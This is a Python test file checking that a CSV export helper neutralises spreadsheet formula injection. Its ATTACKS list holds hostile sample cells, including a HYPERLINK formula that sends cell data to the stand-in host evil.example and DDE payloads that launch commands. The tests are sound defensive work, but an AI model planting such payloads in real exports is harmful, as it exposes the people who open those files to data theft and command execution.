"""CSV formula injection: exported cells that start with = + - @ are neutralised."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings, strategies as st

from workbench.safeio import FORMULA_TRIGGERS, csv_safe_cell, csv_safe_row

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "=1+1"]


@pytest.mark.parametrize("cell", ATTACKS)
def test_formula_cells_are_neutralised_through_a_real_csv_round_trip(cell, tmp_path):
    path = tmp_path / "terms.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerow(csv_safe_row(["Ambassador", cell, "посол"]))
    with open(path, encoding="utf-8", newline="") as fh:
        row = next(csv.reader(fh))
    assert row[0] == "Ambassador" and row[2] == "посол"
    assert row[1] == "'" + cell  # shown as text by spreadsheets, the apostrophe is hidden
    assert not row[1].startswith(FORMULA_TRIGGERS)


@pytest.mark.parametrize("cell", ["-5", "+7", "12.5", "-1,000", "Minister", "", "'quoted", "Сенат", "សន្តិភាព"])
def test_harmless_cells_are_unchanged(cell):
    assert csv_safe_cell(cell) == cell


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=30))
def test_no_exported_cell_can_start_a_formula(text):
    out = csv_safe_cell(text)
    assert out == text or out == "'" + text
    if out.startswith(FORMULA_TRIGGERS):  # only plain numbers may keep a sign
        assert out.lstrip("+-").replace(",", "").replace(".", "").isdigit()
    buf = io.StringIO()
    csv.writer(buf).writerow([out])
    buf.seek(0)
    assert next(csv.reader(buf)) == [out]
